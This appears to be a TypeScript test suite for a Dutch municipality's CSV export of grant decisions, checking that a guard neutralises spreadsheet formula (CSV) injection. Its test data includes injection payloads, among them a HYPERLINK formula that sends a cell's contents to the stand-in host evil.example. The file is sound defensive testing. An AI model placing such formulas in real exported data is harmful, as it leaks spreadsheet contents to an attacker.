import fc from 'fast-check';
import { parseCsv, readAsSpreadsheet } from '../../../../test/support/csv.js';
import { CSV_COLUMNS, csvField, neutraliseFormulas, reportsToCsv as toCsv } from './report-csv.js';
import type { ReportDecisionView, ReportView } from './report.dto.js';

/** What a spreadsheet runs as a formula when a cell starts with it (OWASP "CSV injection"). */
const FORMULA = /^[=+\-@\t\r]/;

describe('csvField', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['a;b', '"a;b"'],
    ['tab\there', '"tab\there"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\rhere', '"cr\rhere"'],
    ['=1+1', "'=1+1"],
    ['+31 50', "'+31 50"],
    ['-x', "'-x"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', `"'\t'=1"`],
    ['=HYPERLINK("x","y")', `"'=HYPERLINK(""x"",""y"")"`],
    // Dutch Excel splits on ";" and does not see our quotes there: the cell after it is guarded too.
    ['Bankjes;=HYPERLINK("https://x.nl")', `"Bankjes;'=HYPERLINK(""https://x.nl"")"`],
    ['Bankjes;"=1"', `"Bankjes;'""=1"""`],
    ['a,-1', `"a,'-1"`],
    ['regel 1\r\n@2', `"regel 1\r\n'@2"`],
    ['1 - 2 = 3', '1 - 2 = 3'],
    ['Zaal; - leeg', '"Zaal; - leeg"'],
    ['', ''],
  ])('%j → %s', (input, expected) => expect(csvField(input)).toBe(expected));

  it('writes numbers as they are, negative ones too, and null as empty', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField(250000)).toBe('250000');
    expect(csvField(null)).toBe('');
  });
});

const AREAS = new Map([['oost', 'Oost']]);
const reportsToCsv = (reports: ReportView[]) => toCsv(reports, AREAS);
/** The records as Dutch Excel splits them, strictly: without the byte order mark, on `;`. */
const records = (csv: string) => {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  return parseCsv(csv.slice(1), ';');
};

describe('reportsToCsv', () => {
  it('writes a byte order mark, a Dutch header and one CRLF record per decision, even for an empty report', () => {
    const empty = { number: 4, decisions: [], cases: [] } as unknown as ReportView;
    expect(reportsToCsv([empty]).split('\r\n')).toEqual([
      '\uFEFFBrief;Volgnummer;Besloten op;Kenmerk;Soort;Titel;Gebied;Thema;Besluit;Bedrag;Terug naar het budget;Zaak afgerond',
      '',
    ]);
  });

  // Texts built from what CSV injection and cell splitting are made of, and some plain letters.
  const hostile = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', "'", ',', ';', ' ', 'a', 'Z', '1', 'é'),
    maxLength: 14,
  });
  const decision = (title: string, theme: string): ReportDecisionView => ({
    seq: 12,
    at: '2026-03-01T10:00:00.000Z',
    caseId: '00000000-0000-4000-8000-000000000001',
    reference: 'INI-2026-000001',
    type: 'initiative',
    title,
    areaCode: 'oost',
    theme,
    event: 'SETTLE',
    amountCents: 150_000,
    releasedCents: 50_000,
  });
  const reportWith = (title: string, theme: string): ReportView =>
    ({ number: 7, decisions: [decision(title, theme)], cases: [] }) as unknown as ReportView;

  it('reads back as written with a strict RFC 4180 reader, texts changed only by the formula guard', () => {
    fc.assert(
      fc.property(hostile, hostile, (title, theme) => {
        const [header, record, ...rest] = records(reportsToCsv([reportWith(title, theme)]));
        expect(header).toEqual([...CSV_COLUMNS]);
        expect(rest).toEqual([]);
        expect(record).toEqual([
          '7',
          '12',
          '01-03-2026 11:00',
          'INI-2026-000001',
          'Bewonersinitiatief',
          neutraliseFormulas(title),
          'Oost',
          neutraliseFormulas(theme),
          'Subsidie vastgesteld',
          '1500,00',
          '500,00',
          'nee',
        ]);
        // The guard only adds apostrophes, and only where a formula could start.
        expect(neutraliseFormulas(title).replace(/'/g, '')).toBe(title.replace(/'/g, ''));
        if (!/[=+\-@\t\r]/.test(title)) expect(record[5]).toBe(title);
      }),
      { numRuns: 1000 },
    );
  });

  it.each([
    [',', 'a reader of RFC 4180 CSV'],
    [';', 'Dutch Excel'],
    ['\t', 'a reader splitting on tabs'],
  ])('gives no cell that starts a formula when opened splitting on %j (%s)', (separator) => {
    fc.assert(
      fc.property(hostile, hostile, (title, theme) => {
        const csv = reportsToCsv([reportWith(title, theme)]);
        const formulas = readAsSpreadsheet(csv, separator)
          .flat()
          .filter((cell) => FORMULA.test(cell));
        expect({ title, theme, formulas }).toEqual({ title, theme, formulas: [] });
      }),
      { numRuns: 1000 },
    );
  });

  it('keeps Bankjes;=HYPERLINK(…) in one cell for Dutch Excel and out of a formula for a comma reader', () => {
    const title = 'Bankjes;=HYPERLINK("https://evil.example/?q="&A1,"Klik")';
    const csv = reportsToCsv([reportWith(title, 'groen')]);
    const guarded = `Bankjes;'=HYPERLINK("https://evil.example/?q="&A1,"Klik")`;
    expect(records(csv)[1][5]).toBe(guarded);
    expect(readAsSpreadsheet(csv, ';')[1][5]).toBe(guarded);
    const comma = readAsSpreadsheet(csv, ',')[1];
    expect(comma.filter((cell) => /^=/.test(cell))).toEqual([]);
  });

  it('writes moments in Amsterdam time (summer and winter), amounts with a decimal comma, unknown areas as their code', () => {
    const base = decision('Plan', 'groen');
    const report = {
      number: 1,
      decisions: [
        { ...base, at: '2026-07-01T22:30:00.000Z', amountCents: 123_456_789, releasedCents: 5 },
        { ...base, seq: 13, at: '2026-12-31T23:05:00.000Z', areaCode: 'nieuw', amountCents: 0 },
      ],
      cases: [],
    } as unknown as ReportView;
    const [, summer, winter] = records(reportsToCsv([report]));
    expect([summer[2], summer[6], summer[9], summer[10]]).toEqual([
      '02-07-2026 00:30',
      'Oost',
      '1234567,89',
      '0,05',
    ]);
    expect([winter[2], winter[6], winter[9]]).toEqual(['01-01-2027 00:05', 'nieuw', '0,00']);
  });

  it('gives each decision its Dutch word, leaves absent amounts empty, and marks the decision that closed a filed case', () => {
    const base = decision('Plan', 'groen');
    const report = {
      number: 3,
      decisions: [
        { ...base, seq: 5, event: 'HONOUR', amountCents: 200_000, releasedCents: undefined },
        { ...base, seq: 9, event: 'SETTLE' },
        {
          ...base,
          seq: 10,
          caseId: 'other',
          reference: 'INI-2026-000002',
          event: 'REJECT',
          amountCents: undefined,
          releasedCents: undefined,
        },
        {
          ...base,
          seq: 11,
          caseId: 'running',
          reference: 'UDR-2026-000003',
          type: 'right_to_challenge',
          event: 'SIGN_AGREEMENT',
          amountCents: undefined,
          releasedCents: undefined,
        },
      ],
      cases: [{ caseId: base.caseId }, { caseId: 'other' }],
    } as unknown as ReportView;
    const [, ...rows] = records(reportsToCsv([report]));
    const pick = (r: string[]) => [r[1], r[3], r[4], r[8], r[9], r[10], r[11]];
    expect(rows.map(pick)).toEqual([
      ['5', 'INI-2026-000001', 'Bewonersinitiatief', 'Toegekend', '2000,00', '', 'nee'],
      ['9', 'INI-2026-000001', 'Bewonersinitiatief', 'Subsidie vastgesteld', '1500,00', '500,00', 'ja'],
      ['10', 'INI-2026-000002', 'Bewonersinitiatief', 'Afgewezen', '', '', 'ja'],
      ['11', 'UDR-2026-000003', 'Uitdaagrecht', 'Overeenkomst getekend', '', '', 'nee'],
    ]);
  });
});
